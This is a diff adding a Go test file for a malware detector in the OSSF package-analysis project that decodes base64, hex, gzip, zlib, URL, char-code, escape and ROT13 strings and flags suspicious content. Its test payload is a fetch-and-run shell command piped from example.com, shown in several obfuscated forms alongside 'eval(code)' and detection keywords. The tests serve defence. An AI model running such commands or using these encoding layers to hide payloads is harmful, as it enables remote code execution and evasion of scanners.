@@ -0,0 +1,217 @@
+package detections
+
+import (
+	"bytes"
+	"compress/gzip"
+	"compress/zlib"
+	"encoding/base64"
+	"encoding/hex"
+	"io"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/ossf/package-analysis/pkg/api/staticanalysis"
+)
+
+const decodeTestPayload = "curl https://example.com/x | sh"
+
+var decodeTestBase64 = base64.StdEncoding.EncodeToString([]byte(decodeTestPayload))
+
+// compressed returns decodeTestPayload compressed by w, which writes to buf, and base64 encoded.
+func compressed(t *testing.T, w io.WriteCloser, buf *bytes.Buffer) string {
+	if _, err := w.Write([]byte(decodeTestPayload)); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return base64.StdEncoding.EncodeToString(buf.Bytes())
+}
+
+func TestDecodeStrings(t *testing.T) {
+	payloadResult := func(encoded string, chain ...staticanalysis.Encoding) staticanalysis.DecodedString {
+		return staticanalysis.DecodedString{
+			Encoded:           encoded,
+			Decoded:           decodeTestPayload,
+			DecodedLength:     len(decodeTestPayload),
+			Chain:             chain,
+			URLs:              []string{"https://example.com/x"},
+			SuspiciousContent: []string{"curl", "| sh"},
+		}
+	}
+
+	var gzipBuf, zlibBuf bytes.Buffer
+	gzipBase64 := compressed(t, gzip.NewWriter(&gzipBuf), &gzipBuf)
+	zlibBase64 := compressed(t, zlib.NewWriter(&zlibBuf), &zlibBuf)
+	hexBase64 := hex.EncodeToString([]byte(decodeTestBase64))
+
+	tests := []struct {
+		name  string
+		input string
+		want  []staticanalysis.DecodedString
+	}{
+		{"empty", "", []staticanalysis.DecodedString{}},
+		{"plain text", "The quick brown fox jumps over the lazy dog", []staticanalysis.DecodedString{}},
+		{"identifier like base64", "ThisIsAVeryLongIdentifierName", []staticanalysis.DecodedString{}},
+		{"binary hex", "deadbeefcafebabe", []staticanalysis.DecodedString{}},
+		{
+			"base64",
+			"payload=" + decodeTestBase64,
+			[]staticanalysis.DecodedString{payloadResult(decodeTestBase64, staticanalysis.Base64Encoding)},
+		},
+		{
+			"base64 inside hex",
+			hexBase64,
+			[]staticanalysis.DecodedString{payloadResult(hexBase64, staticanalysis.HexEncoding, staticanalysis.Base64Encoding)},
+		},
+		{
+			"gzip",
+			gzipBase64,
+			[]staticanalysis.DecodedString{payloadResult(gzipBase64, staticanalysis.Base64Encoding, staticanalysis.GzipEncoding)},
+		},
+		{
+			"zlib",
+			zlibBase64,
+			[]staticanalysis.DecodedString{payloadResult(zlibBase64, staticanalysis.Base64Encoding, staticanalysis.ZlibEncoding)},
+		},
+		{
+			"url encoding",
+			"curl%20https%3A%2F%2Fexample.com%2Fx%20%7C%20sh",
+			[]staticanalysis.DecodedString{payloadResult("curl%20https%3A%2F%2Fexample.com%2Fx%20%7C%20sh", staticanalysis.URLEncoding)},
+		},
+		{
+			"char codes",
+			"String.fromCharCode(104, 116, 116, 112, 58, 47, 47, 49, 46, 50, 46, 51, 46, 52)",
+			[]staticanalysis.DecodedString{{
+				Encoded:       "104, 116, 116, 112, 58, 47, 47, 49, 46, 50, 46, 51, 46, 52",
+				Decoded:       "http://1.2.3.4",
+				DecodedLength: 14,
+				Chain:         []staticanalysis.Encoding{staticanalysis.CharCodesEncoding},
+				URLs:          []string{"http://1.2.3.4"},
+				IPAddresses:   []string{"1.2.3.4"},
+			}},
+		},
+		{
+			"escape sequences",
+			`\x65\x76\x61\x6c\x28\x63\x6f\x64\x65\x29`,
+			[]staticanalysis.DecodedString{{
+				Encoded:           `\x65\x76\x61\x6c\x28\x63\x6f\x64\x65\x29`,
+				Decoded:           "eval(code)",
+				DecodedLength:     10,
+				Chain:             []staticanalysis.Encoding{staticanalysis.EscapesEncoding},
+				SuspiciousContent: []string{"eval("},
+			}},
+		},
+		{
+			"rot13",
+			"phey uggcf://rknzcyr.pbz/k | fu",
+			[]staticanalysis.DecodedString{payloadResult("phey uggcf://rknzcyr.pbz/k | fu", staticanalysis.ROT13Encoding)},
+		},
+		{
+			"encoded substring of decoded text",
+			base64.StdEncoding.EncodeToString([]byte("run('" + decodeTestBase64 + "')")),
+			[]staticanalysis.DecodedString{
+				{
+					Encoded:       base64.StdEncoding.EncodeToString([]byte("run('" + decodeTestBase64 + "')")),
+					Decoded:       "run('" + decodeTestBase64 + "')",
+					DecodedLength: len("run('" + decodeTestBase64 + "')"),
+					Chain:         []staticanalysis.Encoding{staticanalysis.Base64Encoding},
+				},
+				payloadResult(base64.StdEncoding.EncodeToString([]byte("run('"+decodeTestBase64+"')")),
+					staticanalysis.Base64Encoding, staticanalysis.Base64Encoding),
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := DecodeStrings(tt.input, NewDecodeBudget()); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("DecodeStrings() =\n%+v\nwant\n%+v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDecodeStringsMaxDepth(t *testing.T) {
+	encoded := decodeTestPayload
+	for i := 0; i < maxDecodeDepth+1; i++ {
+		encoded = hex.EncodeToString([]byte(encoded))
+	}
+	for _, d := range DecodeStrings(encoded, NewDecodeBudget()) {
+		if len(d.Chain) > maxDecodeDepth {
+			t.Errorf("DecodeStrings() decoded %d encodings, want at most %d", len(d.Chain), maxDecodeDepth)
+		}
+		if d.Decoded == decodeTestPayload {
+			t.Errorf("DecodeStrings() decoded payload encoded %d times", maxDecodeDepth+1)
+		}
+	}
+}
+
+// gzipBase64 returns data compressed with gzip and base64 encoded.
+func gzipBase64(t *testing.T, data []byte) []byte {
+	var buf bytes.Buffer
+	w := gzip.NewWriter(&buf)
+	if _, err := w.Write(data); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return []byte(base64.StdEncoding.EncodeToString(buf.Bytes()))
+}
+
+func TestDecodeStringsNestedBomb(t *testing.T) {
+	// Each layer is the previous layer repeated, compressed and base64 encoded,
+	// so the decoded size grows exponentially with the number of layers.
+	bomb := []byte(decodeTestBase64)
+	for i := 0; i < 3; i++ {
+		bomb = gzipBase64(t, bytes.Repeat(append(bomb, ' '), 1000))
+	}
+	t.Logf("bomb is %d bytes", len(bomb))
+
+	budget := NewDecodeBudget()
+	total := 0
+	for i := 0; i < 100; i++ {
+		for _, d := range DecodeStrings(string(bomb), budget) {
+			if len(d.Decoded) > maxDecodedTextLength {
+				t.Errorf("DecodeStrings() decoded text is %d bytes, want at most %d", len(d.Decoded), maxDecodedTextLength)
+			}
+			total++
+		}
+	}
+	if total > maxDecodedStringsPerFile {
+		t.Errorf("DecodeStrings() returned %d results, want at most %d", total, maxDecodedStringsPerFile)
+	}
+	if budget.bytes < 0 {
+		t.Errorf("DecodeStrings() exceeded the budget by %d bytes", -budget.bytes)
+	}
+}
+
+func TestDecodeStringsTruncated(t *testing.T) {
+	text := strings.Repeat(decodeTestPayload+"\n", 1000)
+	got := DecodeStrings(base64.StdEncoding.EncodeToString([]byte(text)), NewDecodeBudget())
+	if len(got) != 1 {
+		t.Fatalf("DecodeStrings() returned %d results, want 1", len(got))
+	}
+	if got[0].Decoded != text[:maxDecodedTextLength] || got[0].DecodedLength != len(text) {
+		t.Errorf("DecodeStrings() decoded %d of %d bytes, want %d of %d",
+			len(got[0].Decoded), got[0].DecodedLength, maxDecodedTextLength, len(text))
+	}
+}
+
+func TestDecodeStringsPlainTextDoesNotExhaustBudget(t *testing.T) {
+	// plain text strings which rot13 "decodes" to nothing of interest, adding up to
+	// the budget of a file
+	plain := strings.Repeat("Lorem ipsum dolor sit amet. ", 4096)[:64*1024]
+	budget := NewDecodeBudget()
+	for i := 0; i < maxDecodedBytesPerFile/len(plain); i++ {
+		if got := DecodeStrings(plain, budget); len(got) != 0 {
+			t.Fatalf("DecodeStrings() = %v; want no results for plain text", got)
+		}
+	}
+
+	got := DecodeStrings(decodeTestBase64, budget)
+	if len(got) != 1 || got[0].Decoded != decodeTestPayload {
+		t.Errorf("DecodeStrings() = %v; want payload %q decoded", got, decodeTestPayload)
+	}
+}